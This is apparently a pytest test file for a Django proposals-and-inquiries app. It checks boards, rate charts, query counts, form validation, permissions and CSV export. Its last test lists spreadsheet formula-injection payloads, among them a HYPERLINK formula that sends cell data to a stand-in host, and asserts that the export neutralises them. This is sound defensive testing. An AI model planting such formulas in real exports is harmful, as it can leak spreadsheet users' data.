"""The boards: what they show (traffic lights, rates, the chart's data), bad input through the forms, and a
number of queries that does not grow with the number of rows."""

import json

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from motions import services
from motions.models import Inquiry, Proposal, ProposalCosigner

from .conftest import member
from .test_deadlines import D, moment


def make_proposals(people, n, *, start=0):
    """n proposals of alice in every state of the course: submitted, assigned, answered and rated."""
    for i in range(start, start + n):
        proposal = services.file_proposal(
            actor=people["alice"],
            proposer=member(people["alice"]),
            title=f"提议{i}",
            content=f"第{i}条提议的内容",
        )
        if i % 3 == 0:
            continue
        services.register_proposal(actor=people["sam"], proposal=proposal)
        services.assign_proposal(
            actor=people["sam"], proposal=proposal, responsible=member(people["carl"]), department="村委会"
        )
        services.record_progress(actor=people["carl"], proposal=proposal, text=f"进展{i}")
        if i % 3 == 1:
            continue
        services.answer_proposal(actor=people["carl"], proposal=proposal, outcome="adopted", reasons="已办")
        services.rate_answer(actor=people["alice"], proposal=proposal, rating="satisfied")


def make_inquiries(people, n, *, start=0):
    for i in range(start, start + n):
        inquiry = services.file_inquiry(
            actor=people["alice"],
            author=member(people["alice"]),
            kind="ask",
            subject=f"询问{i}",
            questions=f"问题{i}",
        )
        if i % 2:
            services.answer_inquiry(actor=people["sam"], inquiry=inquiry, mode="written", text="答复")


def queries(client, url) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


@pytest.mark.parametrize("persona", ["alice", "sam", "olga"])
def test_the_proposal_board_costs_the_same_queries_for_1_and_30_rows(client, people, persona):
    client.force_login(people[persona])
    make_proposals(people, 1)
    url = reverse("motions:proposals")
    client.get(url)  # warm the session and the content types
    one = queries(client, url)
    make_proposals(people, 29, start=1)
    assert Proposal.objects.count() == 30
    assert queries(client, url) == one
    assert queries(client, url + "?light=green&status=in_progress&q=提议") == one


@pytest.mark.parametrize(
    ("name", "maker"),
    [
        ("motions:inquiries", make_inquiries),
        ("motions:home", make_proposals),
        ("motions:topics", None),
        ("motions:reports", None),
    ],
)
def test_every_list_costs_the_same_queries_for_1_and_30_rows(client, people, tree, name, maker):
    def make(n, start):
        if maker is not None:
            return maker(people, n, start=start)
        for i in range(start, start + n):
            if name == "motions:topics":
                services.put_forward_topic(
                    actor=people["sam"],
                    organisation=tree.a,
                    title=f"议题{i}",
                    description="讨论",
                    source="branch",
                )
            else:
                services.file_report(
                    actor=people["mia"],
                    reporter=member(people["mia"]),
                    kind="accusation",
                    content=f"事实{i}",
                    accused=member(people["sam"]),
                )

    client.force_login(people["dora"] if name == "motions:reports" else people["sam"])
    make(1, 0)
    url = reverse(name)
    client.get(url)
    one = queries(client, url)
    make(29, 1)
    assert queries(client, url) == one


def test_the_board_shows_each_course_with_its_traffic_light_and_the_rates_chart(client, people):
    with time_machine.travel(moment(D(2025, 3, 3), 9), tick=False):
        make_proposals(people, 6)
    with time_machine.travel(moment(D(2025, 3, 14), 9), tick=False):
        client.force_login(people["alice"])
        page = client.get(reverse("motions:proposals"))
    html = page.content.decode()
    assert (
        html.count('data-light="amber"') == 2 * 2
    )  # two assigned, day 11 of 15: in the reminder window (card+row)
    assert html.count('data-light="waiting"') == 2 * 2
    rates = page.context["rates"]
    assert rates == [
        {
            "organisation_id": rates[0]["organisation_id"],
            "name": "东街社区党支部",
            "registered": 4,
            "on_time": 2,
            "late": 0,
            "unanswered": 2,
            "overdue": 0,
            "on_time_rate": 50.0,
            "answered_rate": 50.0,
            "satisfied": 2,
            "basically": 0,
            "dissatisfied": 0,
            "satisfaction_rate": 100.0,
        }
    ]
    chart = json.loads(
        html.split('id="proposal-rates-data" type="application/json">')[1].split("</script>")[0]
    )
    assert chart["labels"] == ["东街社区党支部"] and chart["on_time"] == [2] and chart["unanswered"] == [2]
    assert "vendor/chartjs/chart.umd.min.js" in html and "js/motions-board.js" in html
    assert "<script>" not in html.replace("<script src=", "")  # no inline script (CSP)
    with time_machine.travel(moment(D(2025, 3, 20), 9), tick=False):
        client.force_login(people["alice"])
        later = client.get(reverse("motions:proposals") + "?light=red").content.decode()
    assert later.count('data-light="red"') == 2 * 2


def test_a_proposal_with_no_text_through_the_form_shows_the_error_and_writes_nothing(client, people):
    client.force_login(people["alice"])
    response = client.post(reverse("motions:proposal_new"), {"title": "空的", "content": "  "})
    assert response.status_code == 400
    assert "needs its text" in response.content.decode() or "需要" in response.content.decode()
    assert not Proposal.objects.exists()


def test_a_co_signer_from_another_branch_through_the_form_is_refused_clearly(client, people):
    client.force_login(people["alice"])
    response = client.post(
        reverse("motions:proposal_new"),
        {
            "title": "路灯",
            "content": "修路灯",
            "cosigners": [member(people["mia"]).pk, member(people["bob"]).pk],
        },
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "1 of those named are not members" in body
    assert "鲍勃" not in body.split("<main")[1]  # no name of a member he may not see
    assert not Proposal.objects.exists() and not ProposalCosigner.objects.exists()


def test_an_answer_without_reasons_through_the_form_keeps_the_page_and_the_proposal(
    client, people, assigned_proposal
):
    proposal = assigned_proposal()
    client.force_login(people["carl"])
    response = client.post(
        reverse("motions:proposal_answer", args=[proposal.pk]), {"outcome": "not_adopted", "reasons": ""}
    )
    assert response.status_code == 400
    assert "reasons" in response.content.decode() or "理由" in response.content.decode()
    assert Proposal.objects.get(pk=proposal.pk).status == "assigned"
    assert not proposal.answers.exists()


def test_a_rating_by_someone_who_is_not_the_proposer_through_the_form_is_forbidden(
    client, people, assigned_proposal
):
    proposal = assigned_proposal()
    services.answer_proposal(actor=people["carl"], proposal=proposal, outcome="adopted", reasons="已修")
    client.force_login(people["mia"])
    assert (
        client.post(
            reverse("motions:proposal_rate", args=[proposal.pk]), {"rating": "dissatisfied"}
        ).status_code
        == 403
    )
    assert proposal.answers.get().rating == ""
    assert Proposal.objects.get(pk=proposal.pk).status == "answered"


def test_the_inquiry_board_shows_the_answer_rate(client, people):
    make_inquiries(people, 4)
    client.force_login(people["sam"])
    rates = client.get(reverse("motions:inquiries")).context["rates"]
    assert [(r["received"], r["answered"], r["answer_rate"]) for r in rates] == [(4, 2, 50.0)]
    assert rates[0]["avg_days"] is not None
    assert Inquiry.objects.count() == 4


def test_the_proposal_export_is_a_csv_of_the_board(client, people):
    make_proposals(people, 3)
    client.force_login(people["sam"])
    response = client.get(reverse("motions:proposal_export"))
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 4 and "提议2" in response.content.decode("utf-8-sig")


@pytest.mark.parametrize(
    "title", ['=HYPERLINK("http://x.example/?x="&A1,"点击")', "+1+1", "-1+1", "@SUM(A1)", "\t=1"]
)
def test_a_formula_typed_as_a_title_is_text_in_the_export(client, people, title):
    """The hostile test's replay: a proposal titled =HYPERLINK(…) was live in the secretary's spreadsheet."""
    import csv
    import io

    services.file_proposal(
        actor=people["alice"], proposer=member(people["alice"]), title=title, content="内容"
    )
    client.force_login(people["sam"])
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("motions:proposal_export")).content.decode("utf-8-sig")))
    )
    cells = [cell for row in rows for cell in row]
    assert [
        c for c in cells if c.startswith("'") and c.endswith(title.strip())
    ]  # the title is there, as text
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
